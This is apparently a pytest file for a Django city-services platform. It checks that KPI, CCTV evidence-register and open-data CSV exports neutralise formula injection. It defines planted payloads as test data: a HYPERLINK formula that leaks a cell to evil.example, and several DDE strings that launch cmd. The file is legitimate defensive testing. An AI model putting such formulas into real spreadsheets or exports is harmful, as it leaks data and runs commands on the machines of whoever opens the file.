"""Formula injection: a planted =HYPERLINK(...) or +cmd|... comes out of every CSV defused.

Staff exports (KPI board, CCTV evidence register) defuse every text cell. Open data
defuses text cells of its CSV and nothing else: numbers stay numbers, and the JSON
records keep the raw value for consumers who want it (docs/opendata.md).
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import timedelta
from typing import Any

import pytest
from django.test import Client
from django.utils import timezone

from hypervisor.registry import registry
from hypervisor.spreadsheet import FORMULA_PREFIXES, defused
from opendata import store
from tests.lighting.factories import LightPointFactory
from tests.security.world import World
from traffic import services as traffic_services
from traffic.models import Camera

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Voir")'
DDE = "+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
FULLWIDTH = "＝HYPERLINK(1)"
PLANTED = (HYPERLINK, DDE, AT, MINUS, FULLWIDTH)


def _cells(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8"))) for cell in row]


def _live(cell: str) -> bool:
    """Whether a spreadsheet would evaluate the cell: text starting like a formula."""
    if not cell.startswith(FORMULA_PREFIXES):
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return False  # a negative number


def _as(world: World, role: str) -> Client:
    client = Client()
    client.force_login(world.users[role])
    return client


class PlantedKpi:
    key = "planted"
    label = HYPERLINK
    unit = DDE
    target = -5.0
    higher_is_better = False

    def compute(self, *, start: Any, end: Any, commune_insee: str | None = None) -> dict[str, Any]:
        return {"value": -12.5, "series": [[AT, 1]], "by": {MINUS: 2, FULLWIDTH: 3}}


@pytest.fixture
def planted_kpi(monkeypatch) -> None:  # type: ignore[no-untyped-def]
    monkeypatch.setitem(registry._kpis, PlantedKpi.key, PlantedKpi())


def test_defusing_prefixes_formula_text_and_leaves_numbers() -> None:
    assert [defused(value) for value in PLANTED] == ["'" + value for value in PLANTED]
    assert defused(-12.5) == -12.5
    assert defused("Dijon") == "Dijon"


def test_the_kpi_export_defuses_planted_formulas(world: World, db, planted_kpi) -> None:
    response = _as(world, "supervisor").get("/controle/kpis/export.csv")
    cells = _cells(response.content)
    assert [cell for cell in cells if _live(cell)] == []
    assert {"'" + value for value in PLANTED} <= set(cells)
    assert "-12.5" in cells  # a negative figure stays a number


def test_the_evidence_register_export_defuses_what_people_typed(world: World, db) -> None:
    now = timezone.now()
    traffic_services.evidence_request_file(
        by=world.users["police"],
        procedure_reference=DDE,
        authority=HYPERLINK,
        cameras=[Camera.objects.get(reference="CAM-MATRIX")],
        starts_at=now - timedelta(days=1),
        ends_at=now - timedelta(days=1) + timedelta(hours=1),
        motive=AT,
    )
    response = _as(world, "supervisor").get("/cameras/registre/export.csv")
    cells = _cells(response.content)
    assert [cell for cell in cells if _live(cell)] == []
    assert {"'" + HYPERLINK, "'" + DDE} <= set(cells)


@pytest.fixture
def planted_reference(world: World, db) -> Iterator[str]:
    """A light point whose reference, published as its id, reads as a formula."""
    planted = '=HYPERLINK("https://x.example")'
    LightPointFactory(reference=planted, lat=47.3240, lon=5.0410)
    store.forget()
    yield planted
    store.forget()


def test_the_open_data_csv_defuses_text_cells_only(planted_reference: str) -> None:
    content = Client().get("/api/v1/datasets/light-points/csv/").content
    cells = _cells(content)
    assert [cell for cell in cells if _live(cell)] == []
    assert "'" + planted_reference in cells


def test_the_open_data_records_keep_the_raw_value(planted_reference: str) -> None:
    records = Client().get("/api/v1/datasets/light-points/records/?limit=1000").json()
    assert planted_reference in {record["id"] for record in records["results"]}
